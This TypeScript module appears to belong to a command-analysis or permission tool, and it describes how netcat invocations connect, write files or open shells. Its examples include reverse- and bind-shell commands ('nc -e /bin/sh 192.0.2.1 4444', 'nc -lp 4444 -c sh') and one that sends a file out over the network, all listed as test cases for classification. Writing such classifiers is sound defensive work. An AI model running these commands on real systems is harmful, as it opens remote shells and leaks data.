// nc: a pipe through the network. Source: nc(1) of OpenBSD (Debian 1.219), nc(1) 1.10-47, macOS 14; may also be ncat.
import { command } from './define.ts'
import { netcat } from './lib/netcat.ts'
import { connects, nothing, writes } from './roles.ts'

export default command('nc', {
  aliases: ['netcat', 'nc.openbsd', 'nc.traditional', 'nc6', 'netcat-openbsd', 'netcat-traditional'],
  options: {
    '-e, --exec <program>': nothing,
    '-c, --sh-exec <text>': nothing,
    '--lua-exec <file>': nothing,
    '-o, --output <file>': writes,
    '-x, --proxy <address>': connects,
  },
  harmless: '-4 | -6 | -A | -b | -C | -D | -d | -E | -F | -f | -G <n> | -g <gateway> | -h, --help | -I <size> | -i <seconds> | -K | -k, --keep-open | -L'
    + ' | -l, --listen | -M <ttl> | -m <ttl> | -N | -n, --nodns | -O <size> | -P <user> | -p <port> | -q <seconds> | -r | -S'
    + ' | -s <address> | -T <tos> | -t | -U | -u, --udp | -V <table> | -v, --verbose | -W <n> | -w, --wait <seconds> | -X <protocol> | -Z | -z | --ssl'
    + ' | --version | --send-only | --recv-only | --no-shutdown | --apple-tcp-timeout <n> | --close',
  operands: { '<address...>': nothing },
  always: netcat,
  examples: {
    'nc -zv a.dev 80 443': ['connect a.dev:80', 'connect a.dev:443'],
    'nc a.dev 80': ['connect a.dev:80'],
    'nc -N a.dev 80 < a.txt': ['read a.txt', 'connect a.dev:80 (sends)'],
    'nc -lvnp 4444': ['connect :4444 (listens)'],
    'nc -l 4444 > out': ['write out', 'connect :4444 (listens)'],
    'nc -e /bin/sh 192.0.2.1 4444': ['connect 192.0.2.1:4444 (shell)'],
    'nc -lp 4444 -c sh': ['connect :4444 (listens) (shell)'],
    'nc --lua-exec x.lua a.dev 1': ['connect a.dev:1 (shell)'],
    'nc -U /run/x.sock': ['connect unix:/run/x.sock'],
    'nc -x p.dev:1080 -o dump a.dev 80': ['connect p.dev:1080', 'write dump', 'connect a.dev:80'],
    'nc -h': [],
  },
})
